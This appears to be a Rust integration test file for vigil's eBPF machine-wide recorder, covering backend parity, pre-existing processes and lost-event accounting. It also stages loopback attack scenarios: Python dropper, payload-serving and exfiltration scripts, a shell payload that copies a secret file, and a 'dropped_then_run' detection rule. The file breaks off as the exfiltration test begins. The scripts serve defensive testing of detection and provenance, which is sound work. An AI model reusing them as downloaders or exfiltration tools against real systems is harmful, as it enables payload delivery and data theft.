//! `vigil record --system` (the eBPF backend) on real processes started outside vigil: the
//! same decoded events as the ptrace backend for the same workload, a process that was already
//! running when vigil started, loss accounting past the ring buffer, attack scenarios of
//! unrelated processes reconstructed by backtrack and rules, bad input, vigil killed with
//! SIGKILL, and a disk that fills.
//!
//! They need root and a kernel that runs vigil's programs; without them each test panics with
//! "PRIVILEGE MISSING:" (none passes by doing nothing). Each test runs its processes in a
//! cgroup of its own (removed at the end) and records only that cgroup (or its own pids), so
//! the tests run in parallel with each other and with whatever else the machine does. Every
//! recording is bounded: stopped by SIGINT once the workload is done, with --duration as a
//! safety net.

mod common;

use common::*;
use serde_json::Value as J;
use std::collections::{HashMap, HashSet};
use std::ffi::OsStr;
use std::io::{BufRead, BufReader, Write};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, ExitStatus, Stdio};
use std::sync::{Arc, Mutex, mpsc};
use std::time::{Duration, Instant};
use syscalls::Sysno;
use vigil_event::{Event, EventKind, SockAddr, SyscallId, Target, Value};
use vigil_testkit::{program, scratch_dir};

/// What `vigil record --system` says on stderr once it records.
const READY: &str = "vigil: recording the machine";
/// Every recording's --duration: a safety net only (each test stops its recording itself).
const SAFETY: &str = "60s";

/// Fails the test loudly without what recording the machine needs.
fn require_system() {
    // SAFETY: geteuid has no preconditions.
    let euid = unsafe { libc::geteuid() };
    if euid != 0 {
        panic!(
            "PRIVILEGE MISSING: recording the machine needs root (euid is {euid}); run the tests as root"
        );
    }
    if !Path::new("/sys/kernel/btf/vmlinux").exists() {
        panic!("PRIVILEGE MISSING: the kernel has no BTF (/sys/kernel/btf/vmlinux): no eBPF");
    }
    cgroup2();
}

/// Where the cgroup v2 hierarchy is mounted (/sys/fs/cgroup/unified here, beside v1).
fn cgroup2() -> PathBuf {
    let mounts = std::fs::read_to_string("/proc/self/mounts").unwrap();
    mounts
        .lines()
        .find_map(|l| {
            let f: Vec<&str> = l.split_whitespace().collect();
            (f.get(2) == Some(&"cgroup2")).then(|| PathBuf::from(f[1]))
        })
        .unwrap_or_else(|| {
            panic!("PRIVILEGE MISSING: no cgroup v2 hierarchy is mounted (vigil's socket hooks and --cgroup need one)")
        })
}

/// A cgroup of one test: its processes are killed and it is removed when dropped.
struct Cgroup {
    dir: PathBuf,
}

impl Cgroup {
    fn new(tag: &str) -> Cgroup {
        require_system();
        let dir = cgroup2().join(format!("vigil-systest-{tag}-{}", std::process::id()));
        if dir.exists() {
            kill_cgroup(&dir);
            let _ = std::fs::remove_dir(&dir);
        }
        std::fs::create_dir(&dir).unwrap_or_else(|e| {
            panic!(
                "PRIVILEGE MISSING: cannot create the cgroup {}: {e}",
                dir.display()
            )
        });
        Cgroup { dir }
    }

    /// `sh -c 'echo $$ > CG/cgroup.procs && exec "$@"' sh PROG ARGS...`: PROG runs in the
    /// cgroup from its first instruction, started like any process on the machine.
    fn command<I, S>(&self, prog: impl AsRef<OsStr>, args: I) -> Command
    where
        I: IntoIterator<Item = S>,
        S: AsRef<OsStr>,
    {
        let mut c = Command::new("sh");
        c.arg("-c")
            .arg(format!(
                "echo $$ > '{}/cgroup.procs' && exec \"$@\"",
                self.dir.display()
            ))
            .arg("sh")
            .arg(prog)
            .args(args)
            .stdin(Stdio::null());
        c
    }

    fn arg(&self) -> &OsStr {
        self.dir.as_os_str()
    }
}

fn kill_cgroup(dir: &Path) {
    let _ = std::fs::write(dir.join("cgroup.kill"), "1");
    let deadline = Instant::now() + Duration::from_secs(5);
    while Instant::now() < deadline {
        match std::fs::read_to_string(dir.join("cgroup.procs")) {
            Ok(s) if !s.trim().is_empty() => std::thread::sleep(Duration::from_millis(20)),
            _ => return,
        }
    }
}

impl Drop for Cgroup {
    fn drop(&mut self) {
        kill_cgroup(&self.dir);
        for _ in 0..50 {
            if std::fs::remove_dir(&self.dir).is_ok() || !self.dir.exists() {
                return;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
    }
}

/// Waits for `child` at most `limit`; kills it and fails the test past that.
fn wait_bounded(child: &mut Child, limit: Duration, what: &str) -> ExitStatus {
    let deadline = Instant::now() + limit;
    loop {
        if let Some(st) = child.try_wait().unwrap() {
            return st;
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            panic!("{what} did not end within {limit:?}");
        }
        std::thread::sleep(Duration::from_millis(10));
    }
}

/// Runs `cmd` to its end (at most `limit`), its outputs captured.
fn run_bounded(cmd: &mut Command, limit: Duration) -> std::process::Output {
    let mut child = cmd
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap_or_else(|e| panic!("cannot run {cmd:?}: {e}"));
    let read = |mut r: Box<dyn std::io::Read + Send>| {
        std::thread::spawn(move || {
            let mut v = Vec::new();
            let _ = r.read_to_end(&mut v);
            v
        })
    };
    let out = read(Box::new(child.stdout.take().unwrap()));
    let err = read(Box::new(child.stderr.take().unwrap()));
    let status = wait_bounded(&mut child, limit, &format!("{cmd:?}"));
    std::process::Output {
        status,
        stdout: out.join().unwrap(),
        stderr: err.join().unwrap(),
    }
}

/// A `vigil record --system` running in the background.
struct Recording {
    child: Option<Child>,
    stderr: Arc<Mutex<String>>,
    reader: Option<std::thread::JoinHandle<()>>,
    pid: u32,
}

impl Recording {
    /// Starts `vigil record --system -o LOG ARGS` and returns once it says it records.
    fn start<S: AsRef<OsStr>>(log: &Path, args: &[S]) -> Recording {
        require_system();
        let mut child = vigil()
            .args(["record", "--system", "--duration", SAFETY, "-o"])
            .arg(log)
            .args(args)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let pipe = child.stderr.take().unwrap();
        let stderr = Arc::new(Mutex::new(String::new()));
        let (tx, rx) = mpsc::channel();
        let text = stderr.clone();
        let reader = std::thread::spawn(move || {
            for line in BufReader::new(pipe).lines() {
                let Ok(line) = line else { break };
                let ready = line.starts_with(READY);
                let mut t = text.lock().unwrap();
                t.push_str(&line);
                t.push('\n');
                if ready {
                    let _ = tx.send(());
                }
            }
        });
        let pid = child.id();
        let mut rec = Recording {
            child: Some(child),
            stderr,
            reader: Some(reader),
            pid,
        };
        if rx.recv_timeout(Duration::from_secs(30)).is_err() {
            let (st, err) = rec.finish(Duration::from_secs(5));
            if err.contains("needs root") || err.contains("cannot run vigil's eBPF programs") {
                panic!("PRIVILEGE MISSING: vigil record --system cannot record here: {err}");
            }
            panic!("vigil record --system never became ready ({st}): {err}");
        }
        rec
    }

    /// Stops it with SIGINT (Ctrl-C) and returns how it ended and what it said.
    fn stop(mut self) -> (ExitStatus, String) {
        // SAFETY: kill has no memory preconditions; the pid is our child, not yet waited for.
        unsafe { libc::kill(self.pid as i32, libc::SIGINT) };
        self.finish(Duration::from_secs(20))
    }

    /// Waits for it to end by itself.
    fn wait(mut self, limit: Duration) -> (ExitStatus, String) {
        self.finish(limit)
    }

    fn finish(&mut self, limit: Duration) -> (ExitStatus, String) {
        let mut child = self.child.take().unwrap();
        let st = wait_bounded(&mut child, limit, "vigil record --system");
        if let Some(r) = self.reader.take() {
            let _ = r.join();
        }
        (st, self.stderr.lock().unwrap().clone())
    }
}

impl Drop for Recording {
    /// A test that failed half-way leaves no vigil behind.
    fn drop(&mut self) {
        if let Some(mut c) = self.child.take() {
            let _ = c.kill();
            let _ = c.wait();
        }
    }
}

/// Stops a recording and checks that it ended well.
fn stop_ok(rec: Recording) -> String {
    let (st, err) = rec.stop();
    assert!(st.success(), "vigil record --system: {st}: {err}");
    err
}

fn is_call(e: &Event, call: Sysno) -> bool {
    e.syscall().and_then(SyscallId::canonical) == Some(call)
}

fn is_exit_of(e: &Event, call: Sysno) -> bool {
    matches!(e.kind, EventKind::SyscallExit(_)) && is_call(e, call)
}

fn ret_of(e: &Event) -> Option<i64> {
    match &e.kind {
        EventKind::SyscallExit(x) => Some(x.ret),
        _ => None,
    }
}

/// The pid that exec'd `exe` (the kernel's path of the program).
fn pid_of_exec(events: &[Event], exe: &Path) -> u32 {
    events
        .iter()
        .find_map(|e| match &e.kind {
            EventKind::ProcessExec(x) if x.exe == exe.to_str().unwrap() => Some(e.pid),
            _ => None,
        })
        .unwrap_or_else(|| panic!("no exec of {} in the log", exe.display()))
}

fn lost_count(events: &[Event]) -> u64 {
    events
        .iter()
        .map(|e| match &e.kind {
            EventKind::Lost(l) => l.count,
            _ => 0,
        })
        .sum()
}

// ---------------------------------------------------------------------------------------
// 1. The same workload under both backends.

/// A syscall as recorded, shown by its name.
#[derive(Clone, Copy, PartialEq, Eq)]
struct Call(SyscallId);

impl std::fmt::Debug for Call {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}", self.0.base_name().unwrap_or("?"))
    }
}

/// What an fd referred to, as both backends must say it.
#[derive(Debug, PartialEq, Eq)]
enum NTarget {
    Unknown,
    File(String),
    Pipe,
    Socket {
        family: u16,
        sock_type: u16,
        local: Option<String>,
        remote: Option<String>,
    },
    Other(String),
}

#[derive(Debug, PartialEq, Eq)]
enum NArg {
    Path(String),
    Fd(i32, NTarget),
    Addr(String),
}

#[derive(Debug, PartialEq, Eq)]
enum Ret {
    Value(i64),
    /// A pid (fork's, wait4's): its number in the order processes appeared.
    Pid(Option<usize>),
}

#[derive(Debug, PartialEq, Eq)]
enum Norm {
    Start {
        ppid: Option<usize>,
        exe: String,
        argv: Vec<String>,
        flags: u64,
    },
    Exec {
        exe: String,
        argv: Vec<String>,
    },
    ProcessExit(vigil_event::ExitStatus),
    ThreadExit(vigil_event::ExitStatus),
    Entry(Call, Vec<(&'static str, NArg)>),
    Exit(Call, Vec<(&'static str, NArg)>, Ret),
    Signal(i32),
    Other(&'static str),
}

#[derive(Default)]
struct Normaliser {
    pids: HashMap<u32, usize>,
    ports: HashMap<u16, usize>,
}

impl Normaliser {
    fn pid(&self, p: u32) -> Option<usize> {
        self.pids.get(&p).copied()
    }

    /// Ports by order of appearance (each run gets its own ephemeral ports); 0 stays 0.
    fn port(&mut self, p: u16) -> usize {
        if p == 0 {
            return 0;
        }
        let n = self.ports.len() + 1;
        *self.ports.entry(p).or_insert(n)
    }

    fn addr(&mut self, a: &SockAddr) -> String {
        match a {
            SockAddr::V4(v) => format!("{}:#{}", v.ip(), self.port(v.port())),
            SockAddr::V6(v) => format!("[{}]:#{}", v.ip(), self.port(v.port())),
            SockAddr::Unix(p) => format!("unix:{p}"),
            other => format!("{other:?}"),
        }
    }

    fn target(&mut self, t: Option<&Target>) -> NTarget {
        match t {
            None => NTarget::Unknown,
            Some(Target::File { path, .. }) => NTarget::File(path.to_string()),
            Some(Target::Pipe { .. }) => NTarget::Pipe,
            Some(Target::Socket(s)) => NTarget::Socket {
                family: s.family,
                sock_type: s.sock_type,
                // A new socket, bound to nothing yet: the ptrace backend asks the kernel
                // (getsockname), which says 0.0.0.0:0; the eBPF backend learns a socket's
                // own address at the connect, bind or accept that gives it one.
                local: s
                    .local
                    .as_ref()
                    .filter(|l| !unbound(l))
                    .map(|l| self.addr(l)),
                remote: s.remote.as_ref().map(|r| self.addr(r)),
            },
            Some(Target::Other { label, .. }) => NTarget::Other(label.to_string()),
        }
    }

    /// Each path argument's plain value, each fd with what it referred to, each address.
    fn args(&mut self, call: SyscallId, args: &vigil_event::Args) -> Vec<(&'static str, NArg)> {
        let sig = call.signature();
        let mut v = Vec::new();
        for (i, a) in args.iter().enumerate() {
            let Some(field) = sig.field(i) else { continue };
            let n = match a.plain() {
                Value::Fd(fd) => NArg::Fd(fd.num, self.target(fd.target.as_deref())),
                Value::Addr(addr) => NArg::Addr(self.addr(addr)),
                Value::Str(s) if field.kind.is_path() => NArg::Path(s.to_string()),
                other if field.kind.is_path() => NArg::Path(format!("{other:?}")),
                _ => continue,
            };
            v.push((field.name, n));
        }
        v
    }
}

/// The address of a socket bound to nothing: any address, port 0.
fn unbound(a: &SockAddr) -> bool {
    match a {
        SockAddr::V4(a) => a.ip().is_unspecified() && a.port() == 0,
        SockAddr::V6(a) => a.ip().is_unspecified() && a.port() == 0,
        _ => false,
    }
}

fn strs(l: &[vigil_event::Str]) -> Vec<String> {
    l.iter().map(|s| s.to_string()).collect()
}

/// The workload's events from its exec on, per process (numbered in order of appearance),
/// normalised to what both backends must agree on.
fn normalise(events: &[Event], exe: &Path) -> Vec<Vec<Norm>> {
    let start = events
        .iter()
        .position(
            |e| matches!(&e.kind, EventKind::ProcessExec(x) if x.exe == exe.to_str().unwrap()),
        )
        .unwrap_or_else(|| panic!("no exec of {} in the log", exe.display()));
    let mut tree: HashSet<u32> = [events[start].pid].into();
    let mut kept = Vec::new();
    for e in &events[start..] {
        if let EventKind::ProcessStart(p) = &e.kind
            && tree.contains(&p.ppid)
        {
            tree.insert(e.pid);
        }
        if tree.contains(&e.pid) {
            kept.push(e);
        }
    }
    let mut n = Normaliser::default();
    for e in &kept {
        let next = n.pids.len();
        n.pids.entry(e.pid).or_insert(next);
    }
    let mut per: Vec<Vec<Norm>> = (0..n.pids.len()).map(|_| Vec::new()).collect();
    for e in kept {
        let item = match &e.kind {
            EventKind::ProcessStart(p) => Norm::Start {
                ppid: n.pid(p.ppid),
                exe: p.exe.to_string(),
                argv: strs(&p.argv),
                // Both backends record a process's clone flags as the kernel's ptrace event
                // kind says (a glibc fork is SIGCHLD alone): compared exactly.
                flags: p.clone_flags,
            },
            EventKind::ProcessExec(x) => Norm::Exec {
                exe: x.exe.to_string(),
                argv: strs(&x.argv),
            },
            EventKind::ProcessExit(x) => Norm::ProcessExit(x.status),
            EventKind::ThreadExit(x) => Norm::ThreadExit(x.status),
            EventKind::SyscallEntry(s) => Norm::Entry(Call(s.call), n.args(s.call, &s.args)),
            EventKind::SyscallExit(s) => {
                let ret = match s.call.canonical() {
                    Some(
                        Sysno::clone | Sysno::clone3 | Sysno::fork | Sysno::vfork | Sysno::wait4,
                    ) if s.ret > 0 => Ret::Pid(n.pid(s.ret as u32)),
                    _ => Ret::Value(s.ret),
                };
                Norm::Exit(Call(s.call), n.args(s.call, &s.args), ret)
            }
            // A traced process gets the signals it ignores queued and delivered (the kernel
            // lets its tracer see them): SIGCHLD of each child under ptrace. Untraced, the
            // kernel drops an ignored signal when it is sent: nothing is delivered.
            EventKind::Signal(s) if s.signal == libc::SIGCHLD => continue,
            EventKind::Signal(s) => Norm::Signal(s.signal),
            // The ptrace backend reads the address space from /proc at each exec stop; the
            // eBPF backend does not stop the process, and has no such event.
            EventKind::AddressSpace(_) => continue,
            other => Norm::Other(other.event_type().name()),
        };
        per[n.pid(e.pid).unwrap()].push(item);
    }
    per
}

/// Fails at the first event where the two backends differ, with its neighbours.
fn assert_same(ebpf: &[Vec<Norm>], ptrace: &[Vec<Norm>]) {
    assert_eq!(
        ebpf.len(),
        ptrace.len(),
        "processes: eBPF {ebpf:#?}\nptrace {ptrace:#?}"
    );
    for (p, (a, b)) in ebpf.iter().zip(ptrace).enumerate() {
        let diff = (0..a.len().max(b.len())).find(|&i| a.get(i) != b.get(i));
        if let Some(i) = diff {
            let around = |v: &[Norm]| {
                v[i.saturating_sub(3)..(i + 3).min(v.len())]
                    .iter()
                    .map(|x| format!("  {x:?}"))
                    .collect::<Vec<_>>()
                    .join("\n")
            };
            panic!(
                "process #{p}, event {i} of {} (eBPF) / {} (ptrace) differs:\neBPF:\n{}\nptrace:\n{}",
                a.len(),
                b.len(),
                around(a),
                around(b)
            );
        }
    }
}

#[test]
fn the_same_workload_decodes_the_same_under_both_backends() {
    let dir = scratch_dir("sys-same").canonicalize().unwrap();
    let work = dir.join("work");
    std::fs::create_dir(&work).unwrap();
    let cg = Cgroup::new("same");
    let prog = program("ebpf_workload");
    let set = "openat,read,write,close,pipe2,dup2,socketpair,socket,bind,listen,connect,accept4,accept,rename,renameat2,unlink,unlinkat,execve,clone,clone3,fork,vfork,wait4,exit_group";

    let elog = dir.join("system.vlog");
    let rec = Recording::start(
        &elog,
        &[os("--syscalls"), os(set), os("--cgroup"), cg.arg()],
    );
    let out = run_bounded(
        cg.command(&prog, [&work]).current_dir(&dir),
        Duration::from_secs(20),
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    stop_ok(rec);
    let ebpf_events = read_log(&elog);
    assert_eq!(lost_count(&ebpf_events), 0, "nothing lost");

    // The same wrapper under ptrace: the workload starts in the same cgroup from the same cwd,
    // with the same file names.
    let script = format!(
        "echo $$ > '{}/cgroup.procs' && exec \"$@\"",
        cg.dir.display()
    );
    let (out, ptrace_events, _) = record_in(
        &dir,
        &["--syscalls", set],
        &[
            os("sh"),
            os("-c"),
            os(&script),
            os("sh"),
            prog.as_os_str(),
            work.as_os_str(),
        ],
    );
    assert!(out.status.success(), "{}", text(&out.stderr));

    let ebpf = normalise(&ebpf_events, &prog);
    let ptrace = normalise(&ptrace_events, &prog);
    assert_eq!(
        ebpf.len(),
        3,
        "the workload, its pipe reader, its exec child"
    );
    // The comparison covers each kind of object: not an empty agreement.
    let all: Vec<&Norm> = ebpf.iter().flatten().collect();
    let exit_with = |call: Sysno, f: &dyn Fn(&NArg) -> bool| {
        all.iter().any(|n| {
            matches!(n, Norm::Exit(c, args, _) if c.0.canonical() == Some(call) && args.iter().any(|(_, a)| f(a)))
        })
    };
    assert!(exit_with(Sysno::openat, &|a| {
        matches!(a, NArg::Fd(3, NTarget::File(p)) if p.ends_with("/work/data"))
    }));
    assert!(exit_with(Sysno::pipe2, &|a| matches!(
        a,
        NArg::Fd(_, NTarget::Pipe)
    )));
    assert!(exit_with(Sysno::accept4, &|a| {
        matches!(
            a,
            NArg::Fd(
                _,
                NTarget::Socket {
                    family: 2,
                    local: Some(_),
                    remote: Some(_),
                    ..
                }
            )
        )
    }));
    assert!(
        all.iter()
            .any(|n| matches!(n, Norm::Exec { exe, .. } if exe == "/usr/bin/true"))
    );
    assert!(
        all.iter()
            .any(|n| matches!(n, Norm::Exit(_, _, Ret::Pid(Some(2)))))
    );
    assert_same(&ebpf, &ptrace);
}

// ---------------------------------------------------------------------------------------
// 2. A process that was running before vigil.

#[test]
fn a_process_running_before_vigil_is_known_from_proc_and_followed_with_its_children() {
    require_system();
    let dir = scratch_dir("sys-before").canonicalize().unwrap();
    let (out, fifo, child_file) = (dir.join("out"), dir.join("go"), dir.join("for-child"));
    nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
    std::fs::write(&child_file, "for the child\n").unwrap();
    let prog = program("ebpf_waiter");
    let mut waiter = Command::new(&prog)
        .args([&out, &fifo, &child_file])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut said = BufReader::new(waiter.stdout.take().unwrap());
    let mut line = String::new();
    said.read_line(&mut line).unwrap();
    assert_eq!(line, "ready\n", "the waiter opened its file");
    let p = waiter.id();

    let log = dir.join("before.vlog");
    let rec = Recording::start(&log, &["--pid".to_string(), p.to_string()]);
    // Go on: open the FIFO for writing (the waiter is blocked opening it for reading, or
    // about to be: retried until it is there) and write one byte.
    let deadline = Instant::now() + Duration::from_secs(10);
    let mut go = loop {
        use std::os::unix::fs::OpenOptionsExt;
        match std::fs::OpenOptions::new()
            .write(true)
            .custom_flags(libc::O_NONBLOCK)
            .open(&fifo)
        {
            Ok(f) => break f,
            Err(e) if e.raw_os_error() == Some(libc::ENXIO) && Instant::now() < deadline => {
                std::thread::sleep(Duration::from_millis(10))
            }
            Err(e) => panic!("{}: {e}", fifo.display()),
        }
    };
    go.write_all(b"x").unwrap();
    drop(go);
    let st = wait_bounded(&mut waiter, Duration::from_secs(20), "the waiter");
    assert!(st.success(), "the waiter: {st}");
    stop_ok(rec);
    let events = read_log(&log);

    // P itself, from the /proc scan at the start, with its exe.
    let start = events
        .iter()
        .find_map(|e| match &e.kind {
            EventKind::ProcessStart(s) if e.pid == p => Some(s),
            _ => None,
        })
        .unwrap_or_else(|| panic!("no process_start of {p}"));
    assert_eq!(start.exe.to_string(), prog.to_str().unwrap());
    assert_eq!(start.argv.len(), 4, "{:?}", start.argv);
    // The write to the fd it opened before vigil started: that fd is known from /proc.
    let write = events
        .iter()
        .find(|e| e.pid == p && is_exit_of(e, Sysno::write))
        .unwrap_or_else(|| panic!("no write of {p}"));
    assert_eq!(fd_path(write, "fd").as_deref(), out.to_str(), "{write:?}");
    assert_eq!(ret_of(write), Some(36));
    // Its child, followed by the pid filter, and the file the child opened.
    let child = events
        .iter()
        .find_map(|e| match &e.kind {
            EventKind::ProcessStart(s) if s.ppid == p => Some(e.pid),
            _ => None,
        })
        .unwrap_or_else(|| panic!("no child of {p} recorded"));
    let open = events
        .iter()
        .find(|e| {
            e.pid == child
                && is_exit_of(e, Sysno::openat)
                && path_arg(e, "path").as_deref() == child_file.to_str()
        })
        .unwrap_or_else(|| panic!("the child {child} did not open {}", child_file.display()));
    assert!(ret_of(open).unwrap() >= 0, "{open:?}");
    for pid in [child, p] {
        assert!(
            events
                .iter()
                .any(|e| e.pid == pid && matches!(e.kind, EventKind::ProcessExit(_))),
            "the exit of {pid}"
        );
    }
}

// ---------------------------------------------------------------------------------------
// 3. A storm larger than the ring buffer.

/// `ebpf_storm N` in a cgroup recorded with `--syscalls close --buffer BUFFER`: the log, the
/// storm's pid and vigil's stderr.
fn storm(tag: &str, n: u64, buffer: &str) -> (Vec<Event>, u32, PathBuf, String) {
    let dir = scratch_dir(tag).canonicalize().unwrap();
    let cg = Cgroup::new(tag);
    let prog = program("ebpf_storm");
    let log = dir.join("storm.vlog");
    let rec = Recording::start(
        &log,
        &[
            os("--syscalls"),
            os("close"),
            os("--buffer"),
            os(buffer),
            os("--cgroup"),
            cg.arg(),
        ],
    );
    let out = run_bounded(
        &mut cg.command(&prog, [n.to_string()]),
        Duration::from_secs(25),
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(
        text(&out.stdout).trim(),
        n.to_string(),
        "the storm's own count"
    );
    let err = stop_ok(rec);
    let events = read_log(&log);
    let pid = pid_of_exec(&events, &prog);
    (events, pid, log, err)
}

/// The storm's own close events: entries of close(-1), and exits with EBADF (an exit whose
/// entry was lost has no arguments).
fn storm_closes(events: &[Event], pid: u32) -> u64 {
    events
        .iter()
        .filter(|e| e.pid == pid && is_call(e, Sysno::close))
        .filter(|e| match &e.kind {
            EventKind::SyscallEntry(_) => {
                e.arg("fd").and_then(Value::as_fd).map(|f| f.num) == Some(-1)
            }
            EventKind::SyscallExit(x) => x.ret == -(libc::EBADF as i64),
            _ => false,
        })
        .count() as u64
}

#[test]
fn a_storm_larger_than_the_ring_is_counted_as_lost_never_silently_dropped() {
    let n = 300_000u64;
    let (events, pid, log, err) = storm("sys-storm", n, "64k");
    let lost = lost_count(&events);
    let closes = storm_closes(&events, pid);
    assert!(lost > 0, "a 64k ring cannot hold {n} calls: {err}");
    assert!(closes <= 2 * n, "{closes} close events for {n} calls");
    // Every record the storm made was delivered or counted lost. The lost count may also
    // cover the few other records of its cgroup (its wrapper's and its loader's calls, its
    // exec, its exit): a few dozen at most.
    assert!(
        lost + closes >= 2 * n,
        "lost {lost} + delivered {closes} < {} records",
        2 * n
    );
    assert!(
        lost + closes <= 2 * n + 50,
        "lost {lost} + delivered {closes}: far more than the {} records the storm made",
        2 * n
    );
    assert!(
        err.contains(" LOST "),
        "vigil says records were lost: {err}"
    );
    let summary = run(vigil().arg("summary").arg(&log));
    assert!(summary.status.success(), "{}", text(&summary.stderr));
    assert!(
        text(&summary.stdout).contains(&format!("WARNING: {lost} events were lost")),
        "{}",
        text(&summary.stdout)
    );
}

#[test]
fn a_storm_that_fits_the_ring_is_delivered_whole() {
    let n = 20_000u64;
    let (events, pid, log, err) = storm("sys-nostorm", n, "256m");
    assert_eq!(lost_count(&events), 0, "{err}");
    assert_eq!(storm_closes(&events, pid), 2 * n, "every entry and exit");
    assert!(!err.contains("LOST"), "{err}");
    let summary = run(vigil().arg("summary").arg(&log));
    assert!(summary.status.success(), "{}", text(&summary.stderr));
    assert!(
        !text(&summary.stdout).contains("lost"),
        "{}",
        text(&summary.stdout)
    );
}

// ---------------------------------------------------------------------------------------
// 4. Attack scenarios of unrelated processes, reconstructed from a machine-wide log.

/// Debian's python3 itself (a version manager's shim in PATH would exec through a shell).
fn python() -> &'static str {
    if Path::new("/usr/bin/python3").exists() {
        "/usr/bin/python3"
    } else {
        "python3"
    }
}

/// Listens on loopback, writes its port to PORTFILE (by a rename: complete when it appears),
/// sends the contents of FILE to the first client.
const SERVE: &str = r#"
import os, socket, sys
port_file, payload = sys.argv[1], sys.argv[2]
srv = socket.socket()
srv.bind(("127.0.0.1", 0))
srv.listen(1)
with open(port_file + ".tmp", "w") as f:
    f.write(str(srv.getsockname()[1]))
os.rename(port_file + ".tmp", port_file)
conn, _ = srv.accept()
conn.sendall(open(payload, "rb").read())
conn.close()
"#;

/// Listens on loopback like SERVE, and writes what the first client sends to OUT.
const RECEIVE: &str = r#"
import os, socket, sys
port_file, out = sys.argv[1], sys.argv[2]
srv = socket.socket()
srv.bind(("127.0.0.1", 0))
srv.listen(1)
with open(port_file + ".tmp", "w") as f:
    f.write(str(srv.getsockname()[1]))
os.rename(port_file + ".tmp", port_file)
conn, _ = srv.accept()
data = b""
while True:
    chunk = conn.recv(4096)
    if not chunk:
        break
    data += chunk
with open(out, "wb") as f:
    f.write(data)
"#;

/// Fetches from the port in PORTFILE into DEST and makes it executable: the dropper.
const FETCH: &str = r#"
import os, socket, sys
port = int(open(sys.argv[1]).read())
dest = sys.argv[2]
c = socket.create_connection(("127.0.0.1", port))
data = b""
while True:
    chunk = c.recv(4096)
    if not chunk:
        break
    data += chunk
c.close()
with open(dest, "wb") as f:
    f.write(data)
os.chmod(dest, 0o755)
"#;

/// Sends FILE to the port in PORTFILE: the exfiltration.
const SEND: &str = r#"
import socket, sys
port = int(open(sys.argv[1]).read())
secret = open(sys.argv[2], "rb").read()
c = socket.create_connection(("127.0.0.1", port))
c.sendall(secret)
c.close()
"#;

fn wait_for_file(p: &Path) {
    let deadline = Instant::now() + Duration::from_secs(15);
    while !p.exists() {
        assert!(Instant::now() < deadline, "{} never appeared", p.display());
        std::thread::sleep(Duration::from_millis(10));
    }
}

fn spawn(cmd: &mut Command) -> Child {
    cmd.stdout(Stdio::null())
        .stderr(Stdio::inherit())
        .spawn()
        .unwrap_or_else(|e| panic!("cannot run {cmd:?}: {e}"))
}

fn track(log: &Path, from: &Path) -> J {
    let out = run(vigil()
        .arg("backtrack")
        .arg(log)
        .arg("--from")
        .arg(format!("file:{}", from.display()))
        .args(["--format", "json"]));
    assert!(out.status.success(), "backtrack: {}", text(&out.stderr));
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {}", text(&out.stdout)))
}

fn node(g: &J, pred: impl Fn(&J) -> bool) -> Option<&J> {
    g["nodes"].as_array()?.iter().find(|n| pred(n))
}

fn has_path(g: &J, p: &Path) -> bool {
    node(g, |n| n["path"].as_str() == p.to_str()).is_some()
}

fn has_pid(g: &J, pid: u32) -> bool {
    node(g, |n| n["pid"].as_u64() == Some(pid as u64)).is_some()
}

#[test]
fn a_dropper_of_unrelated_processes_is_traced_back_to_its_download() {
    let dir = scratch_dir("sys-dropper").canonicalize().unwrap();
    let cg = Cgroup::new("dropper");
    let (secret, stolen) = (dir.join("secret"), dir.join("stolen"));
    std::fs::write(&secret, "the secret\n").unwrap();
    let source = dir.join("served");
    std::fs::write(
        &source,
        format!(
            "#!/bin/sh\ncat '{}' > '{}'\n",
            secret.display(),
            stolen.display()
        ),
    )
    .unwrap();
    for (name, src) in [("serve.py", SERVE), ("fetch.py", FETCH)] {
        std::fs::write(dir.join(name), src).unwrap();
    }
    let (port, payload) = (dir.join("port"), dir.join("payload"));
    let log = dir.join("dropper.vlog");
    let rec = Recording::start(&log, &[os("--cgroup"), cg.arg()]);

    // Process 2: the server, on its own.
    let mut server = spawn(&mut cg.command(python(), [dir.join("serve.py"), port.clone(), source]));
    wait_for_file(&port);
    // Process 1: the dropper, on its own.
    let mut dropper =
        spawn(&mut cg.command(python(), [dir.join("fetch.py"), port, payload.clone()]));
    let dropper_pid = dropper.id();
    assert!(wait_bounded(&mut dropper, Duration::from_secs(15), "the dropper").success());
    assert!(wait_bounded(&mut server, Duration::from_secs(15), "the server").success());
    // Process 3, later and unrelated: runs the payload.
    let mut runner = spawn(&mut cg.command(&payload, [] as [&str; 0]));
    let runner_pid = runner.id();
    assert!(wait_bounded(&mut runner, Duration::from_secs(15), "the payload").success());
    assert_eq!(std::fs::read_to_string(&stolen).unwrap(), "the secret\n");
    stop_ok(rec);

    let g = track(&log, &stolen);
    assert!(
        has_pid(&g, runner_pid),
        "the process that ran the payload: {g}"
    );
    assert!(has_path(&g, &payload), "the payload: {g}");
    assert!(has_pid(&g, dropper_pid), "the dropper that wrote it: {g}");
    assert!(
        node(&g, |n| n["kind"] == "socket").is_some(),
        "the connection it was downloaded over: {g}"
    );
    assert!(has_path(&g, &secret), "what the payload read: {g}");

    // A rule over the machine-wide log: a file written by one process, executed by another.
    let rules = dir.join("dropper.rules");
    std::fs::write(
        &rules,
        "RULE dropped_then_run\nPATTERN { [(open|openat):w, execve:x] }\nWHERE { open_for_write(w), x.path == w.path, x.pid != w.pid, x.ret == 0 }\nRETURN { w.pid, x.pid }\n",
    )
    .unwrap();
    let out = run(vigil().args(["match", "--rules"]).arg(&rules).arg(&log));
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(
        text(&out.stdout).contains(&format!("match #1 {{ {dropper_pid} {runner_pid} }}")),
        "{}",
        text(&out.stdout)
    );
}

#[test]
fn an_exfiltration_between_unrelated_processes_is_traced_back_to_the_secret() {
    let dir = scratch_dir("sys-exfil").canonicalize().unwrap();
